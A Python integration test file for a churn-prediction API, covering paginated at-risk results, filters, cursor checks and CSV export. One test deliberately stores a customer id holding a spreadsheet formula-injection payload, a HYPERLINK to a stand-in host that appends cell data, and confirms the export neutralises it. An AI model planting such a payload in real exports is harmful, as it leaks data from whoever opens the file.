"""Customers at risk and stored predictions, by pages, filters and file."""

import csv
import io
import uuid
from collections.abc import Callable
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from retainstream.engine.model.levels import bounds_of_threshold, level_of, ranks, shards_of
from retainstream.engine.records import Prediction
from retainstream.engine.tables.safe_cells import safe_cell
from retainstream.predictions import at_risk
from retainstream.predictions.at_risk import Ranking, TooFar, ranked_page
from retainstream.settings import settings as stack_settings
from retainstream.storage.clients import dynamodb
from retainstream.storage.predictions import Predictions
from tests.integration.base_of_customers import some_base, storage_requests
from tests.small_models import THRESHOLD, add_customers, put_in_service

type Call = Callable[..., Any]

RESULTS = "/api/predictions/results"

at_risk_customers = st.lists(
    st.tuples(
        st.sampled_from(["north", "south"]), st.sampled_from([0.25, 0.5, 0.500001, 0.75, 0.9, 1.0]), st.sampled_from([0.0, 9.99, 240.5])
    ),
    max_size=40,
)


def stored_at_risk(customers: list[tuple[str, float, float]]) -> tuple[list[Any], tuple[str, str]]:
    """Predictions in groups that nothing else is in, and these groups."""
    once = uuid.uuid4().hex
    made: list[Any] = []
    for number, (name, probability, value) in enumerate(customers):
        customer_id, group = f"{number * 7919 % 101:03d}-{once}", f"{name}-{once}"
        prediction = {"customer_id": customer_id, "group": group, "probability": probability, "value_at_risk": value}
        made.append({**prediction, **ranks(customer_id, group, probability, value)})
    Predictions().put_many(made)
    return made, (f"north-{once}", f"south-{once}")


def forget(made: list[dict[str, Any]]) -> None:
    for prediction in made:
        Predictions().delete(prediction["customer_id"])


def everybody(ranking: Ranking, limit: int) -> list[str]:
    """The ids of all pages by cursor."""
    ids: list[str] = []
    after = None
    while True:
        page = ranked_page(Predictions(), ranking, limit=limit, after=after)
        assert len(page.predictions) <= limit
        ids += [prediction["customer_id"] for prediction in page.predictions]
        after = page.after
        if after is None:
            return ids


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    customers=at_risk_customers,
    limit=st.integers(1, 9),
    order=st.sampled_from(["probability", "value"]),
    lowest=st.sampled_from([None, 0.0, 0.5, 0.5000005, 0.9, 1.0]),
    highest=st.sampled_from([None, 0.25, 0.5, 0.5000005, 1.0]),
)
def test_pages_put_together_are_the_sorted_whole(
    aws: None, customers: list[tuple[str, float, float]], limit: int, order: Any, lowest: float | None, highest: float | None
) -> None:
    made, groups = stored_at_risk(customers)
    amount = "probability" if order == "probability" else "value_at_risk"
    within = [
        prediction
        for prediction in made
        if (lowest is None or prediction["probability"] >= lowest) and (highest is None or prediction["probability"] <= highest)
    ]
    expected = [p["customer_id"] for p in sorted(within, key=lambda p: (p[amount], p["customer_id"]), reverse=True)]
    ranking = Ranking(groups, order, lowest, highest)
    assert everybody(ranking, limit) == expected
    for number in range(1, len(expected) // limit + 2):
        page = ranked_page(Predictions(), ranking, limit=limit, number=number)
        assert [prediction["customer_id"] for prediction in page.predictions] == expected[(number - 1) * limit : number * limit]
    one = [prediction["customer_id"] for prediction in made if prediction["group"] == groups[0]]
    assert sorted(everybody(Ranking(groups[:1], order), limit)) == sorted(one)
    forget(made)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(customers=at_risk_customers, limit=st.integers(1, 9))
def test_a_filter_that_no_index_knows_loses_nobody(aws: None, customers: list[tuple[str, float, float]], limit: int) -> None:
    made, groups = stored_at_risk(customers)

    def keep(prediction: Any) -> bool:
        return bool(prediction["value_at_risk"] == 9.99)

    expected = [p["customer_id"] for p in sorted(made, key=lambda p: p["probability_rank"], reverse=True) if keep(p)]
    found: list[str] = []
    page = ranked_page(Predictions(), Ranking(groups), limit=limit, keep=keep)
    while True:
        found += [prediction["customer_id"] for prediction in page.predictions]
        if page.after is None:
            break
        page = ranked_page(Predictions(), Ranking(groups), limit=limit, after=page.after, keep=keep)
    assert found == expected
    forget(made)


def test_page_numbers_reach_no_further_than_they_may(aws: None) -> None:
    ranked_page(Predictions(), Ranking(("a",)), limit=100, number=100)
    with pytest.raises(TooFar):
        ranked_page(Predictions(), Ranking(("a",)), limit=100, number=101)


def test_what_a_page_reads_grows_with_the_page_and_not_with_the_base(aws: None) -> None:
    _, groups = stored_at_risk([("north", 0.5, 1.0)] * 60)
    limits: list[int] = []

    def watch(params: dict[str, Any], **_: Any) -> None:
        limits.append(params["Limit"])

    events = dynamodb().meta.events
    events.register("provide-client-params.dynamodb.Query", watch)
    try:
        page = ranked_page(Predictions(), Ranking(groups), limit=5)
        ranked_page(Predictions(), Ranking(groups), limit=5, after=page.after)
    finally:
        events.unregister("provide-client-params.dynamodb.Query", watch)
    assert limits == [6] * 2 * len(shards_of(groups))


@pytest.fixture
def scored(call: Call) -> list[Prediction]:
    """Sixty scored customers of whom five have left, as they are stored."""
    put_in_service()
    ids = add_customers(60, seed=3, churned=5)
    call("predictions", "POST", "/api/predictions/generate", {"customer_ids": ids})
    return list(Predictions().get_many(ids).values())


def shown_ids(call: Call, query: str, limit: int = 7) -> list[str]:
    """The ids of all pages."""
    ids: list[str] = []
    cursor = ""
    while True:
        answer = call("predictions", "GET", RESULTS, query=f"limit={limit}&{query}{cursor}", role="analyst")
        assert answer.status == 200, answer.body
        assert len(answer.body["data"]) <= limit
        ids += [prediction["customer_id"] for prediction in answer.body["data"]]
        if not answer.body["page"]["next"]:
            return ids
        cursor = f"&cursor={answer.body['page']['next']}"


def test_results_are_what_the_filters_ask_for(call: Call, scored: list[Prediction]) -> None:
    present = [prediction for prediction in scored if not prediction["churned"]]
    assert len(present) == 55
    half = sorted(prediction["probability"] for prediction in present)[27]
    queries: list[tuple[str, Callable[[Prediction], bool]]] = [
        ("", lambda _: True),
        ("level=low", lambda p: p["level"] == "low"),
        ("level=medium", lambda p: p["level"] == "medium"),
        ("level=high", lambda p: p["level"] == "high"),
        ("level=critical", lambda p: p["level"] == "critical"),
        ("plan=basic", lambda p: p["group"] == "basic"),
        ("plan=premium&level=high", lambda p: p["group"] == "premium" and p["level"] == "high"),
        (f"min_probability={half}", lambda p: p["probability"] >= half),
        (f"max_probability={half}", lambda p: p["probability"] <= half),
        (f"min_probability={half}&max_probability={half}", lambda p: p["probability"] == half),
        ("min_probability=0.9&max_probability=0.1", lambda _: False),
        ("min_probability=0.5&plan=standard", lambda p: p["probability"] >= 0.5 and p["group"] == "standard"),
        ("model_version=another", lambda _: False),
        ("model_version=20260101T000000Z-test0000&level=high", lambda p: p["level"] == "high"),
    ]
    for query, passes in queries:
        expected = {prediction["customer_id"] for prediction in present if passes(prediction)}
        found = shown_ids(call, query)
        assert len(found) == len(set(found)), query
        assert set(found) == expected, query


def test_results_at_risk_come_highest_first(call: Call, scored: list[Prediction]) -> None:
    found = shown_ids(call, f"min_probability={THRESHOLD / 2}")
    at_medium = [p for p in scored if not p["churned"] and level_of(p["probability"], bounds_of_threshold(THRESHOLD)) != "low"]
    assert found == [p["customer_id"] for p in sorted(at_medium, key=lambda p: p["probability_rank"], reverse=True)]


def test_cursors_belong_to_their_filters(call: Call, scored: list[Prediction]) -> None:
    cursor = call("predictions", "GET", RESULTS, query="limit=2&min_probability=0.3").body["page"]["next"]
    assert cursor
    for query in (f"cursor={cursor}", f"min_probability=0.4&cursor={cursor}", f"min_probability=0.3&cursor={cursor[:-2]}xx", "cursor=%00"):
        assert call("predictions", "GET", RESULTS, query=query).status == 400


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("limit=0", "query.limit"),
        ("limit=-1", "query.limit"),
        ("limit=101", "query.limit"),
        ("limit=1000000000", "query.limit"),
        ("limit=ten", "query.limit"),
        ("level=extreme", "query.level"),
        ("plan=gold", "query.plan"),
        ("min_probability=-0.1", "query.min_probability"),
        ("max_probability=1.1", "query.max_probability"),
        ("min_probability=nan", "query.min_probability"),
        ("max_probability=inf", "query.max_probability"),
        ("min_probability=high", "query.min_probability"),
        ("format=xml", "query.format"),
    ],
)
def test_bad_filters_are_named(call: Call, query: str, field: str) -> None:
    answer = call("predictions", "GET", RESULTS, query=query)
    assert answer.status == 422
    assert [error["field"] for error in answer.body["errors"]] == [field]


def exported(url: str) -> list[dict[str, str]]:
    """The rows of the file that a link names."""
    key = url.partition("?")[0].split("/", 3)[3]
    content = boto3.client("s3").get_object(Bucket=stack_settings().bucket, Key=key)["Body"].read()
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_a_file_holds_every_row_that_matches(call: Call, scored: list[Prediction]) -> None:
    answer = call("predictions", "GET", RESULTS, query="format=data&level=high&limit=1", role="analyst")
    assert answer.status == 200
    data = answer.body["data"]
    high = {p["customer_id"]: p for p in scored if p["level"] == "high" and not p["churned"]}
    rows = exported(data["url"])
    assert data["rows"] == len(rows) == len(high)
    for row in rows:
        prediction = high[row["customer_id"]]
        assert float(row["probability"]) == prediction["probability"]
        assert row["plan"] == prediction["features"]["plan"]
        assert row["reason_1"] == safe_cell(prediction["reasons"][0]["text"])
        assert [row["probability_low"], row["probability_high"], row["confidence"]] == ["", "", ""], "this version has no intervals"
    assert "X-Amz-Expires=900" in data["url"]


def test_the_link_ends(call: Call, scored: list[Prediction]) -> None:
    data = call("predictions", "GET", RESULTS, query="format=data").body["data"]
    assert data["expires_at"].endswith("+00:00")
    assert data["rows"] == 55


def test_a_page_stops_looking_and_says_where_to_go_on(call: Call, scored: list[Prediction], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("retainstream.predictions.results.EXAMINED", 10)
    monkeypatch.setattr("retainstream.predictions.results._CHUNK", 10)
    monkeypatch.setattr(at_risk, "EXAMINED", 3)
    monkeypatch.setattr(at_risk, "_CHUNK", 3)
    answer = call("predictions", "GET", RESULTS, query="limit=100&plan=basic")
    assert len(answer.body["data"]) < 11
    assert answer.body["page"]["next"]
    expected = {p["customer_id"] for p in scored if not p["churned"] and p["group"] == "basic"}
    assert set(shown_ids(call, "plan=basic")) == expected
    high = {p["customer_id"] for p in scored if not p["churned"] and p["level"] == "high"}
    assert set(shown_ids(call, "level=high")) == high


def test_a_hostile_customer_id_is_safe_in_the_file(call: Call, scored: list[Prediction]) -> None:
    hostile: Prediction = {**scored[-1], "customer_id": '=HYPERLINK("https://x.example?"&A1,"x")\r\n,y', "churned": False}
    Predictions().put_many([hostile])
    rows = exported(call("predictions", "GET", RESULTS, query="format=data").body["data"]["url"])
    [row] = [row for row in rows if "HYPERLINK" in row["customer_id"]]
    assert row["customer_id"] == f"'{hostile['customer_id']}"
    assert len(rows) == 56


def test_storage_that_is_away_is_told_as_such(call: Call, scored: list[Prediction]) -> None:
    def away(**_: Any) -> None:
        raise ClientError({"Error": {"Code": "ProvisionedThroughputExceededException", "Message": ""}}, "Scan")

    events = dynamodb().meta.events
    events.register("before-call.dynamodb.Scan", away)
    try:
        answer = call("predictions", "GET", RESULTS)
    finally:
        events.unregister("before-call.dynamodb.Scan", away)
    assert answer.status == 503
    assert "Retry-After" in answer.headers


@pytest.mark.usefixtures("tidy_answers")
def test_a_level_is_found_without_reading_those_above_it(call: Call) -> None:
    put_in_service()
    some_base(1500)
    asked = {}
    for level in ("critical", "high"):
        query = f"level={level}&limit=5"
        assert len(call("predictions", "GET", RESULTS, query=query).body["data"]) == 5
        with storage_requests() as requests:
            call("predictions", "GET", RESULTS, query=query)
        asked[level] = len(requests)
    assert asked["high"] == asked["critical"]
